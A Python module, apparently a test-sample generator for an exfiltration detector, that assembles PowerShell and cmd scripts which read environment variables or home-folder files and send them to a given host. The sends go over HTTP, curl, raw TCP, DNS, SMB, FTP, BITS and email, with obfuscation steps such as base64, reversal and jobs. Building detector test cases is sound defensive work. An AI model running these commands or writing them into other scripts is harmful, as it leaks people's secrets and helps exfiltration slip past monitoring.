"""The parts of composed thefts in PowerShell and cmd (see `composed`). All of it is inert text."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

    from guard.composed import Parts, Place, Sink, Source

    Carrier = Callable[[Source, Sink], Parts]


def _lines(*given: str) -> Sink:
    """A way out in lines of a program, in which `VALUE` stands for what is sent."""
    return lambda value: [line.replace("VALUE", value) for line in given]


class PowerShell:
    """Programs in PowerShell. A value is an expression that is a text."""

    label = "powershell"
    comment = "# {}"

    @staticmethod
    def value(source: Source) -> str:
        path = source.name if source.name.startswith("./") else f"$HOME\\{source.name.replace('/', chr(92))}"
        match source.kind:
            case "variable":
                ways = (f"$env:{source.name}", f"([Environment]::GetEnvironmentVariable('{source.name}'))")
                return ways[len(source.name) % 2]
            case "environment":
                return "(Get-ChildItem Env: | Out-String)"
            case "file":
                return (f'(Get-Content -Raw "{path}")', f'([IO.File]::ReadAllText("{path}"))')[len(path) % 2]
            case _:
                return f"({source.name})"

    @classmethod
    def carriers(cls) -> dict[str, Carrier]:
        def through(before: str, value: str) -> Carrier:
            def carry(source: Source, sink: Sink) -> Parts:
                given = cls.value(source)
                lines = before.replace("VALUE", given).split("\n") if before else []
                return [*lines, *sink(value.replace("VALUE", given))]

            return carry

        def inside(head: str, value: str, tail: str) -> Carrier:
            def carry(source: Source, sink: Sink) -> Parts:
                given = cls.value(source)
                begin, end = head.replace("VALUE", given).split("\n"), tail.replace("VALUE", given).split("\n")
                return [*begin, *(f"    {line}" for line in sink(value)), *end]

            return carry

        def listed(source: Source, sink: Sink) -> Parts:
            if source.kind != "variable":
                return inside("foreach ($read in @({ VALUE })) {", "(& $read)", "}")(source, sink)
            lines = sink("([Environment]::GetEnvironmentVariable($name))")
            return [f"foreach ($name in '{source.name}', 'HOME') {{", *(f"    {line}" for line in lines), "}"]

        return {
            "direct": through("", "VALUE"),
            "variable": through("$k = VALUE", "$k"),
            "renamed": through("$first = VALUE\n$second = $first\n${third part} = $second.Trim()", "${third part}"),
            "joined": through("$a = VALUE\n$b = 'id-7:' + $a", "$b"),
            "text": through("$a = VALUE", '"id=7;$a"'),
            "expression": through("$a = VALUE", '"id=$($a.Trim())"'),
            "format": through("$a = VALUE", "('{0}-{1}' -f 7, $a)"),
            "array": through("$items = @(VALUE, 'x')", "$items[0]"),
            "list": through(
                "$items = [System.Collections.Generic.List[string]]::new()\n$items.Add(VALUE)", "($items -join ',')"
            ),
            "dict": through("$box = @{ id = 7; k = VALUE }", "$box.k"),
            "dict-key": through("$box = @{}\n$at = 'k'\n$box[$at] = VALUE", "$box['k']"),
            "object": through("$box = [pscustomobject]@{ Id = 7; Note = VALUE }", "$box.Note"),
            "json": through("$text = @{ id = 7; note = VALUE } | ConvertTo-Json -Compress", "$text"),
            "document": through('$a = VALUE\n$note = "id: 7\nnote: $a"', "$note"),
            "base64": through("$b = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes(VALUE))", "$b"),
            "hex": through("$b = [BitConverter]::ToString([Text.Encoding]::UTF8.GetBytes(VALUE))", "$b"),
            "url": through("$b = [uri]::EscapeDataString(VALUE)", "$b"),
            "builder": through(
                "$b = New-Object System.Text.StringBuilder\n[void]$b.Append('id=7;').Append(VALUE)", "$b.ToString()"
            ),
            "file": through("Set-Content -Path $env:TEMP\\n.txt -Value VALUE", "(Get-Content -Raw $env:TEMP\\n.txt)"),
            "file-net": through('[IO.File]::WriteAllText("n.txt", VALUE)', '([IO.File]::ReadAllText("n.txt"))'),
            "redirected": through("VALUE > .\\n.txt\n$t = gc .\\n.txt", "$t"),
            "export": through("$env:PAYLOAD = VALUE", "$env:PAYLOAD"),
            "set-variable": through("Set-Variable -Name note -Value VALUE", "$note"),
            "function": inside("function Push-Note {\n    param([string]$Data)", "$Data", "}\nPush-Note VALUE"),
            "function-named": inside("function Push-Note($Id, $Data) {", "$Data", "}\nPush-Note -Data VALUE -Id 7"),
            "splatted": inside(
                "function Push-Note($Id, $Data) {", "$Data", "}\n$with = @{ Id = 7; Data = VALUE }\nPush-Note @with"
            ),
            "returned": through("function Get-Note { return VALUE }", "(Get-Note)"),
            "printed": through("function Get-Note {\n    VALUE\n}\n$t = Get-Note", "$t"),
            "pipeline": inside("function Push-Note {\n  process {", "$_", "  }\n}\nVALUE | Push-Note"),
            "for-each": inside("VALUE | ForEach-Object {", "$_", "}"),
            "loop": inside("foreach ($item in @(VALUE)) {", "$item", "}"),
            "names": listed,
            "block": inside("& {\n    param($d)", "$d", "} VALUE"),
            "block-kept": inside("$push = {\n    param($d)", "$d", "}\n& $push VALUE"),
            "block-in-map": inside("$do = @{ push = {\n    param($d)", "$d", "} }\n& $do['push'] VALUE"),
            "job": inside("$job = Start-Job -ScriptBlock {\n    param($d)", "$d", "} -ArgumentList VALUE"),
            "class": through("class Box { [string]$Held }\n$b = [Box]::new()\n$b.Held = VALUE", "$b.Held"),
            "method": through("class Box { [string] Read() { return VALUE } }\n$b = [Box]::new()", "$b.Read()"),
            "chosen": through("$t = if ($true) { VALUE } else { '' }", "$t"),
            "tried": inside("try {\n    $t = VALUE", "$t", "} catch { }"),
            "reversed": through("$c = (VALUE).ToCharArray()\n[array]::Reverse($c)", "(-join $c)"),
        }

    @classmethod
    def sinks(cls, to: Place) -> dict[str, Sink]:
        url, host = to
        filed = "Set-Content -Path out.dat -Value VALUE"
        return {
            "irm-body": _lines(f"Invoke-RestMethod -Uri {url} -Method Post -Body VALUE"),
            "irm-header": _lines(f"irm {url} -Headers @{{ 'X-Trace' = VALUE }}"),
            "irm-splatted": _lines(
                f"$call = @{{ Uri = '{url}'; Method = 'Post' }}", "$call.Body = VALUE", "Invoke-RestMethod @call"
            ),
            "irm-url": _lines(f'$v = VALUE; $null = irm "{url}?v=$v"'),
            "iwr-joined": _lines(f"iwr ('{url}?v=' + VALUE) -UseBasicParsing | Out-Null"),
            "iwr-file": _lines(filed, f"Invoke-WebRequest {url} -Method Put -InFile out.dat"),
            "curl": _lines(f"$v = VALUE; curl.exe -s -d $v {url}"),
            "curl-file": _lines(filed, f"& curl.exe -s -T out.dat {url}"),
            "started": _lines(filed, f"Start-Process curl.exe -ArgumentList '-s','-T','out.dat','{url}' -NoNewWindow"),
            "web-client": _lines("$wc = New-Object Net.WebClient", f"$null = $wc.UploadString('{url}', VALUE)"),
            "web-client-file": _lines(filed, f"[Net.WebClient]::new().UploadFile('{url}', 'out.dat')"),
            "http-client": _lines(
                "$h = [System.Net.Http.HttpClient]::new()",
                f"$h.PostAsync('{url}', [System.Net.Http.StringContent]::new(VALUE)).Wait()",
            ),
            "com": _lines(
                "$x = New-Object -ComObject MSXML2.XMLHTTP", f"$x.Open('POST', '{url}', $false)", "$x.Send(VALUE)"
            ),
            "tcp": _lines(
                f"$c = New-Object Net.Sockets.TcpClient('{host}', 4444)",
                "$w = [IO.StreamWriter]::new($c.GetStream())",
                "$w.WriteLine(VALUE)",
                "$w.Flush()",
            ),
            "mail": _lines(f"$v = VALUE; Send-MailMessage -To in@{host} -From a@b.test -Body $v -SmtpServer mx.{host}"),
            "lookup": _lines(f'$v = VALUE; Resolve-DnsName "$v.t.{host}" | Out-Null'),
            "share": _lines(f"Set-Content -Path '\\\\{host}\\in\\n.txt' -Value VALUE"),
            "share-copied": _lines(filed, f"Copy-Item out.dat \\\\{host}\\in\\n.dat"),
            "bits": _lines(filed, f"Start-BitsTransfer -Source out.dat -Destination {url} -TransferType Upload"),
        }

    @staticmethod
    def quiet(source: Source) -> Parts:
        """A program that looks at the value and sends nothing."""
        return [f"if (-not {PowerShell.value(source)}) {{", "    throw 'It is not set.'", "}"]

    @staticmethod
    def block(lines: Parts) -> Parts:
        return ["if ($true) {", *(f"    {line}" for line in lines), "}"]


class Cmd:
    """Scripts of cmd. A value is a variable between percent signs, or the item of a loop."""

    label = "batch"
    comment = "rem {}"
    head = ("@echo off", "setlocal enabledelayedexpansion")

    @staticmethod
    def value(source: Source) -> str:
        """The variable that holds the value, after the lines of `before`."""
        return f"%{source.name}%" if source.kind == "variable" else "%HELD%"

    @staticmethod
    def before(source: Source) -> Parts:
        """The lines that put a value into a variable."""
        path = source.name[2:] if source.name.startswith("./") else f"%USERPROFILE%\\{source.name}"
        match source.kind:
            case "variable":
                return []
            case "file":
                return ['for /f "usebackq delims=" %%L in ("{}") do set "HELD=%%L"'.format(path.replace("/", "\\"))]
            case "environment":
                return ["set > all.txt", "set /p HELD=<all.txt"]
            case _:
                return [f'for /f "delims=" %%L in (\'{source.name.replace(chr(39), chr(34))}\') do set "HELD=%%L"']

    @classmethod
    def carriers(cls) -> dict[str, Carrier]:
        def through(lines: str, value: str) -> Carrier:
            def carry(source: Source, sink: Sink) -> Parts:
                given = cls.value(source)
                between = lines.replace("VALUE", given).split("\n") if lines else []
                return [*cls.before(source), *between, *sink(value.replace("VALUE", given))]

            return carry

        def called(source: Source, sink: Sink) -> Parts:
            call = f'call :push "{cls.value(source)}"'
            return [*cls.before(source), call, "goto :eof", ":push", *sink("%~1"), "exit /b 0"]

        return {
            "direct": through("", "VALUE"),
            "variable": through("set K=VALUE", "%K%"),
            "quoted": through('set "K=VALUE"', "%K%"),
            "renamed": through('set "A=VALUE"\nset "B=%A%"', "%B%"),
            "joined": through('set "A=VALUE"\nset "B=id-7:%A%"', "!B!"),
            "delayed": through('set "A=VALUE"', "!A!"),
            "file": through("echo VALUE>n.txt\nset /p T=<n.txt", "%T%"),
            "loop": through("for %%A in (VALUE) do set T=%%A", "%T%"),
            "called": called,
        }

    @classmethod
    def sinks(cls, to: Place) -> dict[str, Sink]:
        url, host = to
        return {
            "curl-d": _lines(f'curl -s -d "VALUE" {url}'),
            "curl-header": _lines(f'curl.exe -s -H "X-Trace: VALUE" {url} >nul 2>&1'),
            "curl-url": _lines(f'curl -s "{url}?v=VALUE"'),
            "curl-upload": _lines("echo VALUE> out.dat", f"curl -s -T out.dat {url}"),
            "powershell": _lines(f"powershell -NoProfile -Command \"irm {url} -Method Post -Body 'VALUE'\""),
            "lookup": _lines(f"nslookup VALUE.t.{host} >nul"),
            "share": _lines(f"echo VALUE> \\\\{host}\\in\\n.txt"),
            "share-copied": _lines("echo VALUE> out.dat", f"copy /y out.dat \\\\{host}\\in\\n.dat >nul"),
            "ftp": _lines(
                "echo VALUE> out.dat", f"echo open {host}> job.ftp", "echo put out.dat>> job.ftp", "ftp -n -s:job.ftp"
            ),
            "bits": _lines("echo VALUE> out.dat", f'bitsadmin /transfer n /upload {url} "%CD%\\out.dat"'),
        }

    @staticmethod
    def quiet(source: Source) -> Parts:
        """A script that looks at the value and sends nothing."""
        return [*Cmd.before(source), f'if "{Cmd.value(source)}"=="" echo It is not set.']

    @staticmethod
    def block(lines: Parts) -> Parts:
        return list(lines)
